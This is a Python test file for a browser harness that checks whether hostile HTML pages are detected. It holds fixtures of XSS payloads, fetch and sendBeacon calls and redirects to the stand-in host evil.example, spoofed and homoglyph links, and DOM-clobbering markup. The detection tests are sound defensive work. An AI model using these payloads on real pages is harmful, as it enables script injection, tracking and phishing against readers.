"""The traps themselves: what a page without any defence does is noticed, each way of it."""

from pathlib import Path

from tests.hostile import traps
from tests.hostile.serve import served
from tests.hostile.traps import Seen, hunt, run

HARMLESS = "<!doctype html><title>x</title><input type=checkbox id=hub-key checked>"
POLICY = "<meta http-equiv=Content-Security-Policy content=\"img-src 'self'\">"
PAGES = {
    "script": ("ran", "<script>__ran(1)</script>"),
    "handler": ("ran", "<img src=x onerror=__ran(1)>"),
    "alert": ("ran", "<svg onload=alert(1)>"),
    "later": ("ran", "<script>setTimeout(() => __ran(1), 20)</script>"),
    "link": ("ran", "<a href='javascript:__ran(1)'>x</a>"),
    "link-with-tab": ("ran", "<a href='java&Tab;script:__ran(1)'>x</a>"),
    "link-in-svg": ("ran", "<svg><a href='javascript:__ran(1)'><text y=20>x</text></a></svg>"),
    "hover": ("ran", "<b onmouseover=__ran(1)>x</b>"),
    "focus": ("ran", "<b tabindex=0 onfocus=__ran(1)>x</b>"),
    "click": ("ran", "<b onclick=__ran(1)>x</b>"),
    "contents-list": ("ran", "</article><nav><b onmouseenter=__ran(1)>x</b></nav>"),
    "details": ("ran", "<details ontoggle=__ran(1)><summary>x</summary>y</details>"),
    "frame": ("ran", "<iframe srcdoc='<script>__ran(1)</script>'></iframe>"),
    "popup": ("ran", "<a href='javascript:open(\"/x\")'>x</a>"),
    "blank": ("ran", "<script>document.createElement('a').click.call(Object.assign(document.body.appendChild(document.createElement('a')),{href:'javascript:__ran(1)'}))</script>"),
    "image": ("foreign", "<img src=https://evil.example/x.png>"),
    "image-http": ("foreign", "<img src=http://evil.example/x.png>"),
    "image-relative": ("foreign", "<img src=//evil.example/x.png>"),
    "image-lazy": ("foreign", "<div style=height:9000px></div><img loading=lazy src=https://evil.example/x.png>"),
    "loopback": ("foreign", "<img src=http://127.0.0.1:9/x.png>"),
    "style": ("foreign", "<b style='background:url(https://evil.example/b)'>x</b>"),
    "fetch": ("foreign", "<script>fetch('https://evil.example/').catch(() => 0)</script>"),
    "beacon": ("foreign", "<script>navigator.sendBeacon('https://evil.example/')</script>"),
    "refresh": ("left", "<meta http-equiv=refresh content='0;url=https://evil.example/'>"),
    "refresh-inside": ("left", "<meta http-equiv=refresh content='0;url=/handler.html'>"),
    "location": ("left", "<script>setTimeout(() => location = 'https://evil.example/', 5)</script>"),
    "download": ("downloads", "<a id=d download=x.txt href='data:text/plain,x'>x</a>"),
    "clobbered": ("broke", "<script>document.getElementById(\"hub-key\").remove()</script>"),
    "error": ("broke", "<script>nothing.at.all()</script>"),
    "policy": ("blocked", "<img src=https://evil.example/x>"),
}  # fmt: skip
FORBIDDEN = {
    "tag": ("<marquee>", "<marquee>x</marquee>"),
    "handler-that-never-fires": ("handler", "<b onfullscreenerror=x>x</b>"),
    "scheme": ("href data:", "<a href='data:text/html,x'>x</a>"),
    "disguise": ("foreign href in disguise", "<a href='//evil.example/'>x</a>"),
    "backslash": ("foreign href in disguise", "<a href='/\\evil.example/'>x</a>"),
    "user": ("spoofed host", "<a href='https://gov.uk@evil.example/'>x</a>"),
    "number": ("spoofed host", "<a href='https://3405803783/'>x</a>"),
    "alike": ("spoofed host", "<a href='https://www.g\u043ev.uk/'>x</a>"),
    "plain": ("http link", "<a href='http://evil.example/'>x</a>"),
    "config": ("id __config", "<b id=__config>x</b>"),
    "clobber": ("id getElementById", "<form name=getElementById></form>"),
    "mermaid": ("class mermaid", "<pre class=mermaid>x</pre>"),
    "tooltip": ("title with markup", "<a href=/ title='&lt;img>'>x</a>"),
    "style-attribute": ("style", "<p style='position:fixed'>x</p>"),
}
SHORT, LONG = 400, 5000  # milliseconds that a page is looked at


def looked_at(folder: Path) -> dict[str, Seen]:
    """What the traps said of each page, and of one that does nothing.

    A page of which nothing was noticed gets a second, longer look: a browser on a busy machine may
    be late to tell of a download.
    """
    pages = {"harmless": "<p>x</p>"} | {
        name: html for name, (_, html) in (PAGES | FORBIDDEN).items()
    }
    for name, html in pages.items():
        head = (POLICY if name == "policy" else "") + HARMLESS
        text = f"{head}<main><article>{html}</article></main>"
        (folder / f"{name}.html").write_text(text, encoding="utf-8")

    async def visit(origin: str) -> dict[str, Seen]:
        async with hunt(origin) as hunter:
            seen = dict[str, Seen]()
            for wait in SHORT, LONG:
                names = [name for name in pages if not noticed(name, seen)]
                found = await hunter.visit((f"{origin}{name}.html" for name in names), wait=wait)
                seen |= zip(names, found, strict=True)
            return seen

    with served(folder) as origin:
        return run(visit(origin))


def noticed(name: str, seen: dict[str, Seen]) -> bool:
    """Whether a page was seen to do what it does to a reader; one that does nothing, seen at all."""
    return name in seen and bool(name not in PAGES or getattr(seen[name], PAGES[name][0]))


def test_a_page_that_never_ends_is_left_and_told(tmp_path, monkeypatch):
    monkeypatch.setattr(traps, "PATIENCE", 2)
    (tmp_path / "loop.html").write_text(f"{HARMLESS}<script>for (;;);</script>")
    (tmp_path / "next.html").write_text(HARMLESS)

    async def visit(origin: str) -> list[Seen]:
        async with hunt(origin) as hunter:
            return await hunter.visit([f"{origin}loop.html", f"{origin}next.html"], width=1)

    with served(tmp_path) as origin:
        loop, after = run(visit(origin))

    assert loop.hurt == [f"broke: {traps.SILENT}"]
    assert after.hurt == []


def test_what_hurts_a_reader_is_noticed_and_nothing_else(tmp_path):
    seen = looked_at(tmp_path)
    unnoticed = [name for name in PAGES if not noticed(name, seen)]
    unseen = [
        name for name, (what, _) in FORBIDDEN.items() if what not in seen[name].page["forbidden"]
    ]

    assert len(seen) == len(PAGES) + len(FORBIDDEN) + 1
    assert unnoticed == []
    assert unseen == []
    assert seen["harmless"].hurt == []
    assert seen["harmless"].page["forbidden"] == []
    assert seen["harmless"].page["hidden"] == ""
